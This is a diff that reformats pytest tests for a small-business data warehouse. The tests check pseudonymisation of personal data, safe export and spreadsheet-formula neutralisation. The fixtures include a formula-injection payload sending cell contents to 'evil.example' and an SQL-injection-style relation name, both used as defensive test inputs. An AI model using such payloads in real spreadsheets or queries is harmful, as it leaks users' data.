@@ -17,12 +17,20 @@ import pytest
 from schemas.curated import PERSONAL_COLUMNS
 from tests.conftest import query
 from tests.wap_helpers import warehouse_url  # noqa: F401
-from umkm.cli.export import main as export_main, neutralise_formulas, read_relation, write_export
+from umkm.cli.export import main as export_main
+from umkm.cli.export import neutralise_formulas, read_relation, write_export
 from umkm.publish.warehouse import Publication, publish, read_table
 
 TEST_KEY = b"test-only-key"  # the key tests.conftest.run_nightly sets
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+6281234567890",
-            "-2+3", "@SUM(A1:A9)", "\t=1", "Toko = Berkah", "normal"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
+    "+6281234567890",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "Toko = Berkah",
+    "normal",
+]
 
 
 def _text_columns(warehouse, schemas=("curated", "quality")) -> dict[str, pd.Series]:
@@ -30,13 +38,15 @@ def _text_columns(warehouse, schemas=("curated", "quality")) -> dict[str, pd.Ser
     try:
         relations = con.execute(
             "SELECT schema_name || '.' || table_name FROM duckdb_tables() "
-            f"WHERE schema_name IN {tuple(schemas)}").fetchall()
+            f"WHERE schema_name IN {tuple(schemas)}"
+        ).fetchall()
         columns = {}
         for (name,) in relations:
             frame = con.execute(f"SELECT * FROM {name}").df()
             for column in frame.columns:
-                if not pd.api.types.is_numeric_dtype(frame[column]) \
-                        and not pd.api.types.is_datetime64_any_dtype(frame[column]):
+                if not pd.api.types.is_numeric_dtype(
+                    frame[column]
+                ) and not pd.api.types.is_datetime64_any_dtype(frame[column]):
                     columns[f"{name}.{column}"] = frame[column].dropna().astype(str)
         return columns
     finally:
@@ -70,7 +80,9 @@ def test_curated_and_quality_hold_no_personal_data_in_the_clear(published):
     for name, values in columns.items():
         assert not values.isin(clear).any(), (name, values[values.isin(clear)].head(3).tolist())
         assert not values.str.fullmatch(looks_personal).any(), (
-            name, values[values.str.fullmatch(looks_personal)].head(3).tolist())
+            name,
+            values[values.str.fullmatch(looks_personal)].head(3).tolist(),
+        )
 
 
 def _hmac(value: str) -> str:
@@ -79,13 +91,17 @@ def _hmac(value: str) -> str:
 
 @pytest.mark.slow
 def test_nik_and_phone_appear_only_as_keyed_hashes(published):
-    umkm = query(published, "SELECT umkm_id, owner_nik_hash, owner_phone_hash "
-                            "FROM restricted.umkm_owner_key")
-    curated = query(published, "SELECT column_name FROM information_schema.columns "
-                               "WHERE table_schema = 'curated'")["column_name"]
+    umkm = query(
+        published, "SELECT umkm_id, owner_nik_hash, owner_phone_hash FROM restricted.umkm_owner_key"
+    )
+    curated = query(
+        published,
+        "SELECT column_name FROM information_schema.columns WHERE table_schema = 'curated'",
+    )["column_name"]
     assert not set(curated) & {"owner_nik_hash", "owner_phone_hash"}  # pseudonyms: restricted
-    personal = query(published, "SELECT umkm_id, nik, phone_e164 "
-                                "FROM restricted.source_record_personal_data")
+    personal = query(
+        published, "SELECT umkm_id, nik, phone_e164 FROM restricted.source_record_personal_data"
+    )
     for column, hashed in (("nik", "owner_nik_hash"), ("phone_e164", "owner_phone_hash")):
         known = personal.dropna(subset=[column])
         assert umkm[hashed].notna().sum() > 100
@@ -106,8 +122,9 @@ def test_formula_like_text_is_stored_literally(warehouse_url):
 
 
 def test_neutralise_formulas_quotes_only_text_that_would_run():
-    frame = pd.DataFrame({"text": FORMULAS, "number": [-1.5] * len(FORMULAS),
-                          "missing": [None] * len(FORMULAS)})
+    frame = pd.DataFrame(
+        {"text": FORMULAS, "number": [-1.5] * len(FORMULAS), "missing": [None] * len(FORMULAS)}
+    )
     safe = neutralise_formulas(frame)
     assert safe["text"].tolist() == ["'" + v for v in FORMULAS[:5]] + FORMULAS[5:]
     assert safe["number"].tolist() == frame["number"].tolist()
@@ -137,8 +154,9 @@ def test_export_command_writes_views_and_refuses_restricted_data(published, tmp_
     url = f"duckdb:///{published}"
     out = tmp_path / "online_without_nib.xlsx"
     export_main(["curated.v_online_without_nib", str(out), "--url", url])
-    expected = query(published, "SELECT count(*) AS n FROM curated.umkm "
-                                "WHERE sells_online AND nib IS NULL")["n"].iloc[0]
+    expected = query(
+        published, "SELECT count(*) AS n FROM curated.umkm WHERE sells_online AND nib IS NULL"
+    )["n"].iloc[0]
     assert openpyxl.load_workbook(out).active.max_row == expected + 1
     for forbidden in ("restricted.source_record_personal_data", "staging.x", "curated.umkm; --"):
         with pytest.raises(ValueError):
